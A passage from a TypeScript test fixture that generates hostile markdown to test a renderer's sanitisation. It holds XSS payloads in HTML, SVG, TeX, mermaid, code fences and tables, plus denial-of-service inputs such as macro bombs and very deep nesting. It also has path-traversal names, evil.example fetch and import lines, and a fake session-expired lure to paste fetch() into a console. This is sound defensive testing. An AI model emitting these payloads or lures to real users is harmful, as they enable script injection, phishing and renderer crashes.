    tex`$\begin{<script>${call}</script>}x\end{<script>${call}</script>}$`,
  'environments never closed': () => `$$${tex`\begin{matrix}`.repeat(300)}$$`,
  'macro that loops': () => tex`$\def\a{\a\a}\a$`,
  'two macros that loop': () => tex`$\def\a{\b}\def\b{\a}\a$ $\let\x=\y\let\y=\x\x$`,
  'macros that hold each other': () =>
    `$$\\def\\a{x}${'abcdefghijklmnopqrst'.replace(/./g, (at) => tex`\def\m${at}{\a\a\a\a}\let\a=\m${at}`)}\\a$$`,
  'macro bomb': () =>
    `$$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\def\\e{\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d}\\e\\e\\e$$`,
  'macro that stays': ({ call }) =>
    tex`$\gdef\frac{\text{pwned}}$ $\frac{1}{2}$ $\global\def\x{\href{javascript:${call}}{x}}$ $\x$`,
  'macro over a name of JavaScript': () =>
    tex`$\def\constructor{x}\def\__proto__{y}\constructor \toString \hasOwnProperty \__proto__$`,
  'expandafter and csname': ({ call }) =>
    tex`$\expandafter\href\expandafter{javascript:${call}}{x}$ $\csname href\endcsname{javascript:${call}}{x}$`,
  'deep fractions': () => `$$${'\\frac{1}{'.repeat(800)}x${'}'.repeat(800)}$$`,
  'deep braces': () => `$${'{'.repeat(5000)}x${'}'.repeat(5000)}$`,
  'deep indices': () => `$$${'x^{'.repeat(3000)}x${'}'.repeat(3000)}$$`,
  'deep roots in a line': () => `$${'\\sqrt{'.repeat(1500)}x${'}'.repeat(1500)}$`,
  'braces never closed': () => `$${'{'.repeat(4000)}$ and $$${'\\left('.repeat(2000)}$$`,
  'huge rule': () => tex`$\rule{99999999em}{99999999em}$ $\rule[-9e9em]{1em}{9e99em}$`,
  'huge spaces': () =>
    tex`$x\hspace{99999999em}\kern-9999999em\raisebox{9999em}{x}\\[99999em]y$ $\smash{\rule{9em}{9999em}}$`,
  'huge matrix': () => `$$\\begin{matrix}${'a&'.repeat(3000)}b\\\\${'c\\\\'.repeat(1000)}\\end{matrix}$$`,
  'many formulas': () => '$x$ '.repeat(8000),
  'errors only': () => tex`$\undefined$ $\frac$ $}{$ $$\end{x}$$ $\left($ $^^$ $a_b_c$ $#1$ $&$`,
  'comment characters': ({ call }) => `$x % $ <img src=x onerror="${call}">\n$`,
  'dollars around HTML': ({ call }) => `$<script>${call}</script>$ $$<img src=x onerror="${call}">$$`,
  'maths in an address': ({ call }) =>
    `[a](javascript:$${call}$) [$x$](javascript:${call}) ![$\\href{javascript:${call}}{x}$](x)`,
  'other delimiters': ({ call }) =>
    tex`\\(\href{javascript:${call}}{x}\\) \\[\href{javascript:${call}}{x}\\] \(\href{javascript:${call}}{x}\)`,
}

const FENCES: Recipes = {
  'script inside': ({ call }) =>
    `\`\`\`html\n<script>${call}</script>\n<img src=x onerror="${call}">\n\`\`\``,
  'end of the code element inside': ({ call }) => `\`\`\`js\n</code></pre><script>${call}</script>\n\`\`\``,
  'language with a double quote': ({ call }) => `\`\`\`js"onmouseover="${call}\nlet a\n\`\`\``,
  'language with a single quote': ({ ticked }) => `~~~js'onmouseover='${ticked}\nlet a\n~~~`,
  'language with a tag': ({ call }) => `\`\`\`"><img/src="x"/onerror="${call}">\nlet a\n\`\`\``,
  'language with entities': ({ call }) => `\`\`\`&quot;onmouseover=&quot;${call}\nlet a\n\`\`\``,
  'language with a path': ({ url }) => `\`\`\`../../../etc/passwd\nx\n\`\`\`\n\n\`\`\`${url}.js\nx\n\`\`\``,
  'language of an object’s own names': () =>
    ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype']
      .map((name) => `\`\`\`${name}\nx\n\`\`\``)
      .join('\n\n'),
  'language that nobody knows': () => '```klingon\nHIjol\n```\n\n```ansi\n\u001b[31mred\n```',
  'info with attributes': ({ call }) =>
    `\`\`\`js {.x onclick="${call}" style="position:fixed"}\nlet a\n\`\`\``,
  'info with a title': ({ call }) => `\`\`\`js title="</code><script>${call}</script>"\nlet a\n\`\`\``,
  'info with the attributes of a highlighter': ({ call }) =>
    `\`\`\`js {1,3-9999999} /x/ meta={${call}}\nlet a\n\`\`\``,
  'svg with an onload': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9" onload="${call}"><path d="M0 0"/></svg>\n\`\`\``,
  'svg with a script': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><script>${call}</script></svg>\n\`\`\``,
  'svg with an image': ({ url }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><image href="${url}.png"/></svg>\n\`\`\``,
  'svg with a style': ({ url }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><style>@import "${url}.css"</style><text style="fill:url(${url})">a</text></svg>\n\`\`\``,
  'svg with a marker elsewhere': ({ url }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><path d="M0 0" marker-end="url(${url}.svg#x)"/></svg>\n\`\`\``,
  'svg with a link': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><a href="javascript:${call}"><text y="9">Next</text></a></svg>\n\`\`\``,
  'svg with an alternative that breaks out': ({ call }) =>
    `\`\`\`svg " onload="${call}" x="\n<svg viewBox="0 0 9 9"><path d="M0 0"/></svg>\n\`\`\``,
  'svg with values that break out': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><path d="M0 0&quot; onclick=&quot;${call}"/><path d='M0"onclick="${call}'/></svg>\n\`\`\``,
  'svg with a comment': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"><!--><script>${call}</script>--><path d="M0 0"/></svg>\n\`\`\``,
  'svg that is two': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9"></svg><img src=x onerror="${call}"><svg viewBox="0 0 9 9"></svg>\n\`\`\``,
  'svg that is never closed': ({ call }) =>
    `\`\`\`svg A drawing\n<svg viewBox="0 0 9 9" onload="${call}"><g><g>`,
  'svg of a huge size': () =>
    '```svg A drawing\n<svg viewBox="0 0 1e9 1e9" width="99999999" height="99999999"><rect width="1e9" height="1e9"/></svg>\n```',
  'diagram with a tag': ({ call }) =>
    `\`\`\`diagram A drawing\n+--+\n|<img src=x onerror="${call}">|\n</pre><script>${call}</script>\n\`\`\``,
  'diagram with an alternative that breaks out': ({ call }) =>
    `\`\`\`diagram "><img src=x onerror="${call}">\n+--+\n\`\`\``,
  'diagram that is very wide': () => `\`\`\`diagram A drawing\n${'-'.repeat(30_000)}\n\`\`\``,
  mermaid: ({ call }) =>
    `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${call}>"] --> B\n  click A "javascript:${call}"\n  click B call ${call}\n\`\`\``,
  'mermaid with settings': ({ call }) =>
    `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "} * { background: url(https://evil.example/mermaid) }"}}%%\ngraph TD\n  A["<iframe src='javascript:${call}'>"]\n\`\`\``,
  'math, latex and other renderers': ({ call }) =>
    [
      'math',
      'latex',
      'katex',
      'dot',
      'plantuml',
      'vega',
      'geojson',
      'stl',
      'markdown',
      'mdx',
      'jsx live',
      'html run',
    ]
      .map((name) => `\`\`\`${name}\n<img src=x onerror="${call}">\n\\href{javascript:${call}}{x}\n\`\`\``)
      .join('\n\n'),
  'never closed': ({ call }) => `\`\`\`html\n<script>${call}</script>\n\nand the rest of the page`,
  'closed by fewer marks': ({ call }) =>
    `\`\`\`\`\n\`\`\`\n<script>${call}</script>\n\`\`\`\n\`\`\`\`\n<script>${call}</script>`,
  'tildes with marks inside': ({ call }) => `~~~ \`\`\` "><script>${call}</script>\nx\n~~~`,
  'indented code': ({ call }) =>
    `    <script>${call}</script>\n    </code></pre><img src=x onerror="${call}">`,
  'code in a line': ({ call }) =>
    `\`<script>${call}</script>\` \`\`\`</code><img src=x onerror="${call}">\`\`\` \`never closed <img src=x onerror="${call}">`,
  'fence in a list in a quotation': ({ call }) =>
    `> - \`\`\`html\n>   <script>${call}</script>\n> <script>${call}</script>`,
  'one very long line': () => `\`\`\`js\n${'a('.repeat(18_000)}\n\`\`\``,
  'code that slows a highlighter': () =>
    `\`\`\`cpp\n${'template<'.repeat(3_000)}\n${'/*'.repeat(3_000)}\n\`\`\``,
  'strings that slow a highlighter': () =>
    `\`\`\`sh\n${'"$('.repeat(6_000)}\n\`\`\`\n\n\`\`\`yaml\n${'- '.repeat(6_000)}\n\`\`\``,
}

const TEXTS: Recipes = {
  'end of a script element': ({ call }) => `A note </script><script>${call}</script> about locks.`,
  'end of a script element in capitals': ({ call }) => `</SCRIPT\t><img src=x onerror="${call}"></script\n>`,
  'end of a script element in code': ({ call }) =>
    `\`</script><script>${call}</script>\`\n\n\`\`\`html\n</script><script>${call}</script>\n\`\`\``,
  'comment that hides the end of a script': ({ call }) => `<!--<script>${call}`,
  'comment and script in code': ({ call }) => `\`<!--<script>\` and \`-->\` and \`</script>\` ${call}`,
  'end of a JSON string': ({ call }) => `"});${call};//  \\");${call};//  \\u0022);${call};//`,
  'end of a template string': ({ call }) => `\`+${call}+\`  \${${call}}  \\\${${call}}`,
  'line separators': ({ call }) => `A note\u2028${call}\u2029</script><script>${call}//\u0085`,
  'templates of other frameworks': ({ call }) =>
    `{{${call}}} {{constructor.constructor("${call}")()}} {%raw%} <%= ${call} %> #{${call}} \${${call}} [[${call}]]`,
  'template in an attribute': ({ call }) =>
    `<p v-html="${call}" x-data x-init="${call}" @click="${call}" :x="${call}" ng-app ng-init="${call}" hx-on="${call}">{{ 1 }}</p>`,
  'template of JSX': ({ call }) =>
    `<p dangerouslySetInnerHTML={{__html: "<img src=x onerror=${call}>"}}>{${call}}</p>`,
  'heading with a tag': ({ call }) =>
    `# <img src=x onerror="${call}">\n\n## \`<script>${call}</script>\`\n\n<svg onload="${call}">\n---`,
  'headings that break out of an id': ({ call }) =>
    `# a" onmouseover="${call}\n\n## a' onclick='${call}\n\n### "><script>${call}</script>`,
  'headings of an object’s own names': () =>
    ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'prototype', 'valueOf', '__defineGetter__']
      .map((name) => `# ${name}\n\n## ${name}`)
      .join('\n\n'),
  'headings of the window’s names': () =>
    [
      'main',
      'root',
      'location',
      'document',
      'top',
      'parent',
      'self',
      'name',
      'status',
      'history',
      'pwned',
      'fetch',
      '__reactRouterContext',
      '__reactRouterManifest',
    ]
      .map((name) => `## ${name}`)
      .join('\n\n'),
  'headings with attributes': ({ call }) =>
    `# a {#main onclick="${call}"}\n\n## b {.fixed style="position:fixed"}\n\n### c <a id="x" name="x">`,
  'headings without words': () =>
    '#\n\n# #\n\n## <!-- -->\n\n### \u200b\n\n#### ![](x)\n\n##### &nbsp;\n\n####### seven',
  'thousands of headings': () => '# a\n\n'.repeat(7_000),
  'cells with tags': ({ call }) =>
    `| a | b |\n|---|---|\n| <img src=x onerror="${call}"> | <script>${call}</script> |\n| </table><script>${call}</script> | \`|\` |`,
  'cells with links': ({ call }) =>
    `| [a](javascript:${call}) | b |\n|:--"onclick="${call}|--:|\n| a | [b](<javascript:${call}>) |`,
  'alignment that breaks out': ({ call }) =>
    `| a |\n|:-"onclick=${call}-:|\n| b |\n\n| a |\n| :-: |\n| </td></table><img src=x onerror="${call}"> |`,
  'table of very many cells': () => `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n${'|x'.repeat(9_000)}`,
  'task list': ({ call }) =>
    `- [x] <input autofocus onfocus="${call}">\n- [ ] [a](javascript:${call})\n- [x" onclick="${call}] b`,
  footnotes: ({ call }) =>
    `A note[^1] and[^"><img src=x onerror=${call}>] and^[<script>${call}</script>].\n\n[^1]: <img src=x onerror="${call}">\n[^"><img src=x onerror=${call}>]: [a](javascript:${call})`,
  'definitions and abbreviations': ({ call }) =>
    `Lock\n: <img src=x onerror="${call}">\n\n*[Lock]: " onmouseover="${call}`,
  containers: ({ call }) =>
    `::: x" onclick="${call}\n<img src=x onerror="${call}">\n:::\n\n:a[b]{onclick="${call}"}\n\n==mark <img src=x onerror="${call}">==`,
  'front matter': ({ call }) => `---\ntitle: <script>${call}</script>\nlayout: evil\n---\n\nA note`,
  'HTML in emphasis': ({ call }) =>
    `**<img src=x onerror="${call}">** ~~<svg onload="${call}">~~ _<b onclick="${call}">_`,
  'HTML in list items': ({ call }) =>
    `1. <script>${call}</script>\n   - <img src=x onerror="${call}">\n\n99999999999. x`,
  'HTML in a quotation': ({ call }) => `> <script>\n${call}\n</script>\n> <img src=x\n> onerror="${call}">`,
  'HTML over blank lines': ({ call }) =>
    `<script>\n\n${call}\n\n</script>\n\n<div\n\nonclick="${call}">\n\n<style>\n\n* {}\n\n</style>`,
  'carriage returns alone': ({ call }) => `# a\r<script>${call}</script>\r\r<img src=x onerror="${call}">\r`,
  'bidirectional controls': ({ url }) =>
    `\u202egnirts desrever\u202c [\u202ekcol\u202c](${url}) \u2066isolate \u2067never closed \u200f`,
  'letters of no width': ({ call }) =>
    `<\u200bscript>${call}</\u200bscript> <img\u200b src=x onerror="${call}"> \ufeff\u2060\u00ad`,
  'ANSI escapes': ({ url }) =>
    `\u001b[2J\u001b[31mred\u001b[0m \u001b]8;;${url}\u0007link\u001b]8;;\u0007 \u009b31m \u0007\u0008\u007f`,
  'control characters and lone surrogates': ({ call }) =>
    `\u0000\u0001\u000b\u000c\u000e\u001f \ud83d \udc00 \ufffe \uffff <img\ud800src=x onerror="${call}">`,
  'marks piled up': () => `${`a${'\u0301'.repeat(300)}`.repeat(100)}`,
  'one very long word': () => 'a'.repeat(39_000),
  'lines by the thousand': () => 'a\n'.repeat(19_000),
  'quotations 2,000 deep': ({ call }) => `${'>'.repeat(2_000)} <img src=x onerror="${call}">`,
  'lists 2,000 deep': ({ call }) => `${'- '.repeat(2_000)}<img src=x onerror="${call}">`,
  'numbered lists 2,000 deep': () => `${'1. '.repeat(2_000)}a`,
  'lists deep by indentation': () =>
    Array.from({ length: 190 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
  'quotations and lists in turn': () => `${'> - '.repeat(2_000)}a`,
  '5,000 asterisks': () => `${'*'.repeat(5_000)}a`,
  '5,000 asterisks on either side': () => `${'*'.repeat(5_000)}a${'*'.repeat(5_000)}`,
  'asterisks and underscores in turn': () => '*_a '.repeat(5_000),
  '5,000 opening brackets': () => `${'['.repeat(5_000)}a`,
  '5,000 brackets on either side': ({ call }) =>
    `${'['.repeat(5_000)}a${']'.repeat(5_000)}(javascript:${call})`,
  '5,000 beginnings of links': () => '[a]('.repeat(5_000),
  '5,000 beginnings of images': () => '![a]('.repeat(5_000),
  '5,000 beginnings of tags': () => '<a '.repeat(5_000),
  '5,000 beginnings of comments': () => '<!-- '.repeat(5_000),
  'backticks of every length': () =>
    Array.from({ length: 270 }, (_, count) => '`'.repeat(count + 1)).join(' '),
  '10,000 dollars': () => '$'.repeat(10_000),
  '10,000 dollars with letters': () => '$a '.repeat(10_000),
  '10,000 beginnings of entities': () => `${'&'.repeat(10_000)}${'&#'.repeat(10_000)}`,
  'definitions by the thousand': () =>
    `${'[a]'.repeat(3_000)}\n\n${Array.from({ length: 1_000 }, (_, at) => `[a${at}]: /x`).join('\n')}`,
  'hard breaks by the thousand': () => 'a  \n'.repeat(9_000),
  'instructions to the reader': ({ url }) =>
    `**Your session has ended.** [Log in again](${url}) to keep your progress, or paste \`fetch("${url}")\` into the console.`,
}

const GROUPS: Record<string, Recipes> = { HTML, LINKS, IMAGES, SVG, TEX, FENCES, TEXTS }

/** Each text is shorter than the 40,000 characters at which the service stops to listen. */
export const HOSTILE_OUTPUTS: readonly { name: string; markdown: string }[] = Object.entries(GROUPS).flatMap(
  ([group, recipes]) =>
    Object.entries(recipes).map(([what, markdown]) => {
      const name = `${group} ${what}`.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-')
      return { name, markdown: markdown(bait(name)) }
    }),
)

function bait(name: string): Bait {
  return {
    call: `pwned('${name}')`,
    ticked: `pwned(\`${name}\`)`,
    plain: `pwned(/${name}/)`,
    url: `https://evil.example/${name}`,
  }
}
